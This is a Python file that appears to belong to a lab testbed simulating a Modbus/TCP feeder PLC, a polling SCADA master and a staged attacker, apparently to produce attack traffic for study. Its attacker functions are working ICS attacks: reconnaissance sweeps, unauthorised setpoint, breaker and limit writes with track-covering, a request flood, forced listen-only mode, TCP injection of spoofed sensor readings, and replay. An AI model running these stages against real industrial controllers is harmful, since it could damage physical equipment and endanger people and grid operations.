"""Modbus/TCP on pymodbus: a PLC (server) whose input registers follow a simulated feeder, a SCADA
master polling it, and the attacker's stages."""

from __future__ import annotations

import asyncio
import logging
import random
import struct
import time

from common import (
    ATTACKER,
    DEVICES,
    MASTER,
    SCAN_PORTS,
    LoopTap,
    attacker_socket,
    echo_timestamps,
    log,
    port_scan,
    recv_some,
)

PLC, PORT = DEVICES["modbus"]
UNIT = 1
SETPOINT_REG = 10  # holding register the operator writes (voltage setpoint, V/10)
N_IR = 16


def requirement() -> str | None:
    try:
        import pymodbus  # noqa: F401
    except ImportError:
        return "pymodbus is not installed (pip install -e '.[realstack]')"
    return None


# --- PLC -------------------------------------------------------------------------------------------


async def server(seed: int, command_every: float) -> None:
    from pymodbus import ModbusDeviceIdentification
    from pymodbus.datastore import ModbusDeviceContext, ModbusSequentialDataBlock, ModbusServerContext
    from pymodbus.server import ModbusTcpServer

    rng = random.Random(seed)
    hr = [0] * 100
    hr[SETPOINT_REG] = 1100
    hr[11:14] = [1050, 1150, 400]  # limits: low, high, current
    device = ModbusDeviceContext(
        di=ModbusSequentialDataBlock(1, [False] * 16),
        co=ModbusSequentialDataBlock(1, [True, True, False, False] + [False] * 12),
        hr=ModbusSequentialDataBlock(1, hr),
        ir=ModbusSequentialDataBlock(1, [0] * N_IR),
    )
    context = ModbusServerContext(devices=device, single=True)
    ident = ModbusDeviceIdentification(
        info_name={
            "VendorName": "realstack",
            "ProductCode": "RS-PLC",
            "MajorMinorRevision": "3.16",
            "ProductName": "feeder PLC",
            "ModelName": "pymodbus",
        }
    )
    srv = ModbusTcpServer(context, identity=ident, address=(PLC, PORT))

    async def process():
        volts, amps, hz = 11000.0, 240.0, 50.0
        while True:
            setpoint = (await context.async_getValues(UNIT, 3, SETPOINT_REG, 1))[0] * 10
            volts += 0.2 * (setpoint - volts) + rng.gauss(0, 8)
            amps = max(0.0, amps + rng.gauss(0, 2))
            hz = 50.0 + 0.9 * (hz - 50.0) + rng.gauss(0, 0.005)
            regs = [
                int(volts) & 0xFFFF,
                int(amps * 10) & 0xFFFF,
                int(hz * 100),
                int(volts * amps * 1.732 / 1000),
                int(20 + rng.random() * 3),
            ] + [0] * (N_IR - 5)
            await context.async_setValues(UNIT, 4, 0, regs)
            await asyncio.sleep(0.5)

    task = asyncio.create_task(process())
    try:
        await srv.serve_forever()
    finally:
        task.cancel()


# --- master ----------------------------------------------------------------------------------------


async def master(seed: int, command_every: float) -> None:
    """FC3 + FC4 every second, FC1 every 2 s, an FC6 setpoint write now and then (the operator)."""
    from pymodbus.client import AsyncModbusTcpClient

    rng = random.Random(seed + 1)
    client = AsyncModbusTcpClient(
        PLC,
        port=PORT,
        source_address=(MASTER, 0),
        timeout=2,
        retries=1,
        reconnect_delay=1,
        reconnect_delay_max=5,
    )
    await client.connect()
    next_cmd = time.time() + rng.uniform(0.3, 0.7) * command_every
    tick = 0
    while True:
        t0 = time.monotonic()
        try:
            if not client.connected:
                await client.connect()
            await client.read_holding_registers(0, count=14, device_id=UNIT)
            await client.read_input_registers(0, count=8, device_id=UNIT)
            if tick % 2 == 0:
                await client.read_coils(0, count=8, device_id=UNIT)
            if time.time() >= next_cmd:
                await client.write_register(
                    SETPOINT_REG, rng.choice([1090, 1095, 1100, 1105, 1110]), device_id=UNIT
                )
                next_cmd = time.time() + rng.uniform(0.5, 1.5) * command_every
        except Exception as exc:  # the PLC in listen-only mode or restarting: keep polling, as a master does
            logging.getLogger("master").warning("poll failed: %s", exc)
        tick += 1
        await asyncio.sleep(max(0.0, 1.0 - (time.monotonic() - t0)))


# --- attacker --------------------------------------------------------------------------------------


def _req(tid: int, fc: int, body: bytes, unit: int = UNIT) -> bytes:
    return struct.pack(">HHHB", tid & 0xFFFF, 0, len(body) + 2, unit) + bytes([fc]) + body


def _exchange(s, tid: int, fc: int, body: bytes, unit: int = UNIT, timeout: float = 1.0) -> bytes:
    s.sendall(_req(tid, fc, body, unit))
    return recv_some(s, timeout)


def stage_recon(ctx) -> str:
    open_ports = port_scan(PLC)
    s = attacker_socket(PLC, PORT)
    tid = 1
    _exchange(s, tid, 43, bytes([14, 1, 0]))  # read device identification, basic
    tid += 1
    _exchange(s, tid, 17, b"")  # report server id
    for unit in range(8):  # unit-id sweep
        tid += 1
        _exchange(s, tid, 3, struct.pack(">HH", 0, 1), unit=unit, timeout=0.3)
    for addr in range(0, 1000, 50):  # register map sweep, holding then input registers
        tid += 1
        _exchange(s, tid, 3, struct.pack(">HH", addr, 10), timeout=0.3)
        tid += 1
        _exchange(s, tid, 4, struct.pack(">HH", addr, 10), timeout=0.3)
        time.sleep(0.05)
    s.close()
    return (
        f"TCP connect scan of {len(SCAN_PORTS)} ports (open: {open_ports}), device identification (FC 43/14, "
        f"FC 17), unit-id sweep 0-7 and a holding/input register sweep 0-999 on {PLC}"
    )


def stage_write(ctx) -> str:
    s = attacker_socket(PLC, PORT)
    _exchange(s, 1, 6, struct.pack(">HH", SETPOINT_REG, 1450))  # setpoint far above the operator's range
    time.sleep(0.5)
    _exchange(s, 2, 5, struct.pack(">HH", 0, 0x0000))  # breaker coil 0 open
    time.sleep(0.5)
    _exchange(s, 3, 16, struct.pack(">HHB", 11, 3, 6) + struct.pack(">HHH", 0, 65535, 65535))  # limits off
    time.sleep(2)
    _exchange(s, 4, 6, struct.pack(">HH", SETPOINT_REG, 1100))  # cover tracks: setpoint back
    _exchange(s, 5, 5, struct.pack(">HH", 0, 0xFF00))
    s.close()
    return (
        f"new host writes the voltage setpoint to 14500 V (FC 6), opens breaker coil 0 (FC 5), rewrites the "
        f"limits (FC 16) on {PLC}, then puts setpoint and breaker back"
    )


def stage_flood(ctx) -> str:
    """Back-to-back FC 3 reads, one in flight (pymodbus serves a connection's requests in turn)."""
    n, t_end = 0, time.time() + ctx.timing.flood
    s = attacker_socket(PLC, PORT)
    while time.time() < t_end:
        n += 1
        s.sendall(_req(n, 3, struct.pack(">HH", 0, 14)))
        if not recv_some(s, 1.0):
            break
    s.close()
    return f"request flood: {n} FC 3 reads in {ctx.timing.flood:.0f} s against {PLC}"


def stage_disrupt(ctx) -> str:
    s = attacker_socket(PLC, PORT)
    _exchange(s, 1, 8, struct.pack(">HH", 4, 0), timeout=0.5)  # force listen only (no reply expected)
    time.sleep(5)
    _exchange(s, 2, 8, struct.pack(">HH", 1, 0), timeout=1.0)  # restart communications
    _exchange(s, 3, 8, struct.pack(">HH", 10, 0), timeout=1.0)  # clear counters and diagnostic register
    s.close()
    return f"Modbus diagnostics FC 8: force listen only (sub 4), 5 s later restart communications (sub 1), clear counters (sub 10) on {PLC}"


def stage_spoof(ctx) -> str:
    """Inject forged FC 4 responses (a frozen bus voltage) into the master's session, spoofing the
    PLC's address: each is sent the moment the master's read goes out, racing the PLC's answer."""
    tap = LoopTap()
    sent, t_end = 0, time.time() + max(4.0, ctx.timing.flood)
    last_resp = None
    try:
        while time.time() < t_end and sent < 12:
            seg = tap.next(
                lambda g: (
                    g.payload
                    and (
                        (g.src == PLC and g.dst == MASTER and g.sport == PORT)
                        or (g.src == MASTER and g.dst == PLC and g.dport == PORT)
                    )
                ),
                3.0,
            )
            if seg is None:
                continue
            if seg.src == PLC:
                last_resp = seg
                continue
            if last_resp is None or len(seg.payload) < 12 or seg.payload[7] != 4:
                continue
            tid, count = (
                struct.unpack_from(">H", seg.payload, 0)[0],
                struct.unpack_from(">H", seg.payload, 10)[0],
            )
            regs = [11000, 2400, 5000, 4570, 21] + [0] * max(0, count - 5)
            body = bytes([4, 2 * count]) + struct.pack(f">{count}H", *regs[:count])
            forged = struct.pack(">HHHB", tid, 0, len(body) + 1, UNIT) + body
            tap.inject(
                PLC,
                MASTER,
                PORT,
                seg.sport,
                last_resp.seq + len(last_resp.payload),
                seg.seq + len(seg.payload),
                forged,
                echo_timestamps(last_resp.options),
            )
            sent += 1
            last_resp = None
    finally:
        tap.close()
    return f"{sent} forged FC 4 responses (bus voltage frozen at 11000 V) injected into the master's session from {PLC}'s address"


def stage_replay(ctx) -> str:
    reqs = [p for p in ctx.recorded if len(p) >= 8]
    writes = [p for p in reqs if p[7] in (5, 6, 15, 16)]
    pick = writes[-3:] + reqs[-20:]
    s = attacker_socket(PLC, PORT)
    for p in pick:
        s.sendall(p)
        recv_some(s, 0.3)
        time.sleep(0.05)
    s.close()
    return f"replay from a new host of {len(pick)} recorded master requests ({len(writes[-3:])} setpoint writes) to {PLC}"


STAGES = [
    ("recon", stage_recon, ATTACKER, PLC),
    ("unauthorised_write", stage_write, ATTACKER, PLC),
    ("flood", stage_flood, ATTACKER, PLC),
    ("dangerous_function", stage_disrupt, ATTACKER, PLC),
    ("measurement_spoofing", stage_spoof, PLC, MASTER),
    ("replay", stage_replay, ATTACKER, PLC),
]


def _main(role: str, seed: int, command_every: float) -> None:
    log("modbus", f"{role} starting")
    asyncio.run((server if role == "server" else master)(seed, command_every))
